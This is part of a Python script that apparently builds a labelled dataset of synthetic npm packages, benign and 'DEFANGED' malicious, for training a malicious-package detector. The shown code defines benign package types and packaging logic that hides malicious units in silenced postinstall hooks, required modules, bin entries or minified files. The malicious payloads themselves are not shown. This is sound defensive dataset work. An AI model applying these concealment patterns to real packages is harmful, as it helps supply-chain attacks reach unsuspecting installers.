            "    const child = spawn(cmd, args, Object.assign({ stdio: 'inherit', shell: process.platform === 'win32' }, opts));",
            "    child.on('error', reject);",
            "    child.on('close', (code) => (code === 0 ? resolve() : reject(new Error(cmd + ' exited with ' + code))));", "  });", "}",
            "function revision(cwd) { try { return execFileSync('git', ['rev-parse', '--short', 'HEAD'], { cwd, encoding: 'utf8' }).trim(); } catch (e) { return 'unknown'; } }",
            "async function build(cwd = process.cwd()) {",
            "  const out = path.join(cwd, 'dist');", "  fs.rmSync(out, { recursive: true, force: true });",
            f"  await run(path.join(cwd, 'node_modules', '.bin', '{tool}'), {json.dumps(rng.choice([['-p', '.'], ['src/index.ts', '--outdir=dist'], ['-c']]))}, {{ cwd }});",
            "  fs.writeFileSync(path.join(out, 'BUILD_INFO'), revision(cwd) + '\\n');", "}",
            "module.exports = { build, run };",
            "if (require.main === module) build().catch((e) => { console.error(e.message); process.exit(1); });"]
    return unit("build-tool", "\n".join(code) + "\n", rng.choice(["bin", "import"]))


def ben_npmrc_config(rng, pkg):
    """Finds the configured registry URL by reading .npmrc files (no send)."""
    code = ["const fs = require('fs');", "const os = require('os');", "const path = require('path');",
            "function parse(text) { const out = {}; for (const line of String(text).split(/\\r?\\n/)) { const m = line.match(/^\\s*([^#;=\\s][^=]*?)\\s*=\\s*(.*?)\\s*$/); if (m) out[m[1]] = m[2]; } return out; }",
            "function readRc(file) { try { return parse(fs.readFileSync(file, 'utf8')); } catch (e) { return {}; } }",
            "function registryFor(name, cwd = process.cwd()) {",
            "  const cfg = Object.assign({}, readRc(path.join(os.homedir(), '.npmrc')), readRc(path.join(cwd, '.npmrc')));",
            "  const scope = name && name.startsWith('@') ? name.split('/')[0] : null;",
            "  const url = (scope && cfg[scope + ':registry']) || process.env.npm_config_registry || cfg.registry;",
            "  if (!url) throw new Error('no registry configured');",
            "  return url.endsWith('/') ? url : url + '/';", "}",
            "module.exports = { registryFor, parse };"]
    return unit("npmrc-config", "\n".join(code) + "\n", "import")


def ben_opener(rng, pkg):
    """open-style: starts the platform's opener, detached."""
    code = ["const { spawn } = require('child_process');",
            "function open(target, opts = {}) {",
            "  let cmd, args = [];",
            "  if (process.platform === 'darwin') { cmd = 'open'; args = [target]; }",
            "  else if (process.platform === 'win32') { cmd = 'cmd'; args = ['/c', 'start', '\"\"', target.replace(/&/g, '^&')]; }",
            "  else { cmd = 'xdg-open'; args = [target]; }",
            "  const child = spawn(opts.app || cmd, args, { detached: true, stdio: 'ignore' });",
            "  child.on('error', () => {});", "  if (!opts.wait) child.unref();", "  return child;", "}",
            "module.exports = open;"]
    return unit("opener", "\n".join(code) + "\n", "import")


def ben_asset_embed(rng, pkg):
    """Reads its own fonts/images to inline them as data URIs (no eval)."""
    tmpl, magic = rng.choice(DATA_FILES[:5])
    rel = tmpl.format(w=rng.choice(WORDS))
    mime = {"woff2": "font/woff2", "png": "image/png", "dat": "application/octet-stream", "ttf": "font/ttf", "ico": "image/x-icon"}[rel.rsplit(".", 1)[1]]
    code = ["const fs = require('fs');", "const path = require('path');",
            f"const FILE = path.join(__dirname, {', '.join(repr(p) for p in rel.split('/'))});",
            f"function dataUri() {{ return 'data:{mime};base64,' + fs.readFileSync(FILE).toString('base64'); }}",
            "function css(family) { return '@font-face { font-family: ' + JSON.stringify(family) + '; src: url(' + dataUri() + '); }'; }",
            "module.exports = { dataUri, css };"]
    return unit("asset-embed", "\n".join(code) + "\n", "import", files={rel: magic + rng.randbytes(rng.randint(300, 3000))})


def ben_postinstall_msg(rng, pkg):
    """Harmless install hooks: funding message, husky, patch-package, node-gyp-build."""
    style = rng.choice(["msg", "tool"])
    if style == "tool":
        return unit("install-tool", "", "install", scripts={rng.choice(["postinstall", "install", "prepare"]):
                                                             rng.choice(["husky install", "patch-package", "node-gyp-build", "opencollective-postinstall || true", "ngcc"])})
    code = ["const env = process.env;",
            "const quiet = env.CI || env.ADBLOCK || env.DISABLE_OPENCOLLECTIVE || /silent|error|warn/.test(env.npm_config_loglevel || '');",
            f"if (!quiet) console.log('\\u001b[96mThank you for using {pkg}! Please consider supporting us: https://{own_host(rng, pkg)}/donate\\u001b[0m');"]
    return unit("install-msg", "\n".join(code) + "\n", "install")


BENIGN_FAMILIES = [("native-installer", ben_native_installer, 3), ("release-tool", ben_release_tool, 2),
                   ("rest-client", ben_rest_client, 2), ("instrumentation", ben_instrumentation, 2), ("web3", ben_web3, 2),
                   ("clipboard", ben_clipboard, 1), ("esm-shim", ben_esm_shim, 1), ("template", ben_template, 1),
                   ("build-tool", ben_build_tool, 1), ("npmrc-config", ben_npmrc_config, 1), ("opener", ben_opener, 1),
                   ("asset-embed", ben_asset_embed, 1), ("install-hook", ben_postinstall_msg, 1)]


def build_pkg(rng, u, pkg, malicious):
    """Wraps a unit into a whole package: main file with filler, the unit in
    main, a required module, an install hook, a bin or a browser entry."""
    files, scripts, pj = dict(u["files"]), dict(u["scripts"]), dict(u["pj"])
    head = rng.choice(["'use strict';\n", "", "/* eslint-disable */\n", "\"use strict\";\n"])
    if malicious and rng.random() < 0.5:
        head += "// DEFANGED training sample (moat): hosts are .invalid or documentation IPs.\n"
    main = rng.choice(["index.js", "index.js", "lib/index.js", "dist/index.js", "src/index.js"])
    code = u["code"]
    if code and rng.random() < 0.2:
        code = minify(code)
    trig = u["trigger"]
    main_src = head + filler(rng)
    if trig == "install" and code:
        hook = rng.choice(["install.js", "scripts/postinstall.js", "setup.js", "lib/install.js", "bundle.js", "build/check.js"])
        files[hook] = head + (filler(rng) if rng.random() < 0.3 else "") + code
        if not any(k in scripts for k in ("preinstall", "install", "postinstall")):
            scripts[rng.choice(["postinstall", "postinstall", "preinstall", "install"])] = rng.choice(
                [f"node {hook}", f"node ./{hook} || true", f"node {hook} > /dev/null 2>&1", f"node {hook} || exit 0"])
        main_src += exports_line(rng)
    elif trig == "bin":
        cmd = pkg.split("-")[0] + rng.choice(["", "-cli", "ctl"])
        b = rng.choice([f"bin/{cmd}.js", "cli.js", f"bin/{cmd}"])
        files[b] = "#!/usr/bin/env node\n" + head + code
        pj["bin"] = {cmd: b}
        main_src += exports_line(rng)
    elif code:
        where = rng.choice(["main", "main", "module"])
        if where == "main":
            main_src = main_src + code if rng.random() < 0.6 else head + code + filler(rng)
            if "module.exports" not in code:
                main_src += exports_line(rng)
        else:
            mod = rng.choice(["lib/util.js", "lib/polyfill.js", "src/runtime.js", "lib/telemetry.js", "internal/setup.js"])
            dirn = os.path.dirname(main)
            rel = os.path.relpath(mod, dirn or ".")
            rel = rel if rel.startswith(".") else "./" + rel
            files[mod] = head + code
            main_src = head + f"{rng.choice(['require', 'const _s = require'])}('{rel[:-3]}');\n" + filler(rng) + exports_line(rng)
    else:
        main_src += exports_line(rng)
    files[main] = main_src
    pj["main"] = main
    if not malicious and not scripts and rng.random() < 0.2:
        scripts["prepare"] = rng.choice(["tsc -p .", "npm run build", "husky install"])
    if not malicious and rng.random() < 0.3:
        scripts.setdefault("test", rng.choice(["node test.js", "mocha", "jest", "tap test/*.js"]))
    return files, scripts, pj


def pick(rng, families):
    total = sum(w for _, _, w in families)
    x = rng.uniform(0, total)
    for name_, f, w in families:
        x -= w
        if x <= 0:
            return name_, f
    return families[-1][0], families[-1][1]


def malicious_unit(rng, pkg):
    """One unit of a new malicious family (for trojan_npm.py and build_pkg)."""
    _, f = pick(rng, MALICIOUS_FAMILIES)
    return f(rng, pkg)


def malicious_pkg(rng, pkg):
    if rng.random() < 0.15:
        files, scripts = classic_malicious(rng)
        return "classic", files, scripts, {}
    u = malicious_unit(rng, pkg)
    files, scripts, pj = build_pkg(rng, u, pkg, True)
    return u["family"], files, scripts, pj


def benign_pkg(rng, pkg):
    if rng.random() < 0.15:
        files, scripts = classic_benign(rng)
        return "classic", files, scripts, {}
    name_, f = pick(rng, BENIGN_FAMILIES)
    u = f(rng, pkg)
    files, scripts, pj = build_pkg(rng, u, pkg, False)
    return u["family"], files, scripts, pj


def tgz(pkgname, version, files, scripts, desc, pj_extra=None):
    pj = {"name": pkgname, "version": version, "description": desc, "main": "index.js", "license": "MIT"}
    pj.update(pj_extra or {})
    if scripts:
        pj["scripts"] = scripts
    files = dict(files)
    files["package.json"] = json.dumps(pj, indent=2) + "\n"
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", format=tarfile.USTAR_FORMAT) as tf:
        for p in sorted(files):
            data = files[p] if isinstance(files[p], bytes) else files[p].encode()
            ti = tarfile.TarInfo("package/" + p)
            ti.size, ti.mtime = len(data), 499162500
            ti.mode = 0o755 if p.startswith("bin/") or not isinstance(files[p], str) and data[:4] == b"\x7fELF" else 0o644
            tf.addfile(ti, io.BytesIO(data))
    # gzip header mtime fixed too, so the bytes are the same every run
    raw = buf.getvalue()
    return raw[:4] + b"\0\0\0\0" + raw[8:]


def reserved_names():
    """npm names reserved for evaluation: never used for samples."""
    p = os.environ.get("MOAT_RESERVED", os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "..", "shared", "data", "reserved-for-evaluation.tsv"))
    out = set()
    try:
        with open(p, encoding="utf-8") as f:
            for row in csv.reader(f, delimiter="\t"):
                if len(row) > 1:
                    out.add(row[1].lower())
    except OSError:
        pass
    return out


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--out", required=True)
    ap.add_argument("--n", type=int, default=400, help="packages per label")
    ap.add_argument("--seed", type=int, default=7)
    args = ap.parse_args()
    rng = random.Random(args.seed)
    seen = reserved_names()
    counts = {}
    for label, make in (("malicious", malicious_pkg), ("benign", benign_pkg)):
        d = os.path.join(args.out, label)
        os.makedirs(d, exist_ok=True)
        rows = []
        while len(rows) < args.n:
            n = name(rng)
            if n in seen:
                continue
            seen.add(n)
            v = f"{rng.randint(0, 4)}.{rng.randint(0, 20)}.{rng.randint(0, 9)}"
            fam, files, scripts, pj = make(rng, n)
            data = tgz(n, v, files, scripts, "DEFANGED moat training sample" if label == "malicious" else "moat training sample", pj)
            rel = f"{label}/{n}-{v}.tgz"
            with open(os.path.join(args.out, rel), "wb") as f:
                f.write(data)
            counts[(label, fam)] = counts.get((label, fam), 0) + 1
            rows.append(["npm", n, v, rel, "npm-synthetic", f"{label.upper()} synthetic: {fam}"])
        with open(os.path.join(args.out, label + ".tsv"), "w", newline="") as f:
            w = csv.writer(f, delimiter="\t", lineterminator="\n")
            w.writerow(["ecosystem", "package", "version", "relative_path", "source", "note"])
            w.writerows(rows)
    print(f"synth_npm: {args.n} malicious and {args.n} benign packages in {args.out}")
    for (label, fam), c in sorted(counts.items()):
        print(f"  {label:9} {fam:17} {c}")


if __name__ == "__main__":
    main()
